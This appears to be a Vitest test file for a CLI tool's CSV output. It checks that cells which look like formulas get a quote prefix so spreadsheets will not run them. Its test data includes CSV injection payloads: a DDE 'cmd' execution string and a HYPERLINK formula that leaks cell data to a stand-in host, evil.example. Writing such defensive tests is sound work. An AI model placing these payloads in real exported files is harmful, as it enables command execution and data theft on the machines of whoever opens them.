import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import { main } from '../../../../functions/cli/main.ts';
import { MemoryOutput } from '../../../../functions/cli/output.ts';
import { parseCsv } from '../../../../functions/core/import/csv.ts';
import { csvCell, csvTable } from '../../../../functions/core/reporting/csv-output.ts';

const dir = mkdtempSync(join(tmpdir(), 'rekindle-csv-output-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

const hostile = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
];

describe('CSV outputs neutralise formulas', () => {
  it('prefixes a text cell that a spreadsheet would run with a quote, and quotes it where needed', () => {
    expect(hostile.map(csvCell)).toEqual([
      "'=cmd|' /C calc'!A0",
      '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"',
      "'+1+1",
      "'-2+3",
      '"\'@SUM(1,1)"',
      "'\t=1+1",
      '"\'\r=1+1"',
    ]);
    expect([csvCell(-0.25), csvCell(0), csvCell('a=b'), csvCell('plain'), csvCell(undefined)]).toEqual([
      '-0.25',
      '0',
      'a=b',
      'plain',
      '',
    ]);
  });

  it('reads back every text cell exactly, but for the quote that keeps a formula from running', () => {
    fc.assert(
      fc.property(fc.array(fc.string(), { minLength: 1, maxLength: 5 }), (cells) => {
        const text = csvTable(
          ['a'],
          cells.map((a) => ({ a })),
        );
        const { records, faults } = parseCsv(text);
        expect(faults).toEqual([]);
        const back = records.slice(1).map((record) => record.fields[0] ?? '');
        // Blank cells become blank lines, which CSV readers skip.
        const expected = cells
          .filter((cell) => cell !== '')
          .map((cell) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell));
        expect(back.filter((cell) => cell !== '')).toEqual(expected);
      }),
      { numRuns: 500 },
    );
  });

  it('rekindle model score --out writes customer ids that look like formulas as text', async () => {
    const summary = readFileSync('/work/shared/data/cdnow/cdnow_summary.csv', 'utf8').trimEnd().split('\n');
    const [header = '', ...rows] = summary;
    const renamed = rows.map((row, index) => {
      const id = hostile[index];
      const quoted = `"${id?.replaceAll('"', '""')}"`;
      return id === undefined ? row : [quoted, ...row.split(',').slice(1)].join(',');
    });
    const input = join(dir, 'summary.csv');
    writeFileSync(input, `${[header, ...renamed].join('\n')}\n`);
    const out = join(dir, 'scores.csv');
    const code = await main(
      ['model', 'score', '--summary', input, '--model', 'bgnbd', '--horizon', '39', '--out', out],
      new MemoryOutput(),
    );
    const { records } = parseCsv(readFileSync(out, 'utf8'));
    const ids = records.slice(1).map((record) => record.fields[0]);
    // The summary reader trims ids, so the tab and CR ones arrive as "=1+1".
    expect(ids.slice(0, hostile.length)).toEqual(hostile.map((id) => `'${id.trim()}`));
    const runnable = records
      .flatMap((record) => record.fields)
      .filter((field) => /^[=+@\t\r]/.test(field) || (field.startsWith('-') && Number.isNaN(Number(field))));
    expect(runnable).toEqual([]);
    expect(code).toBe(0);
  });
});
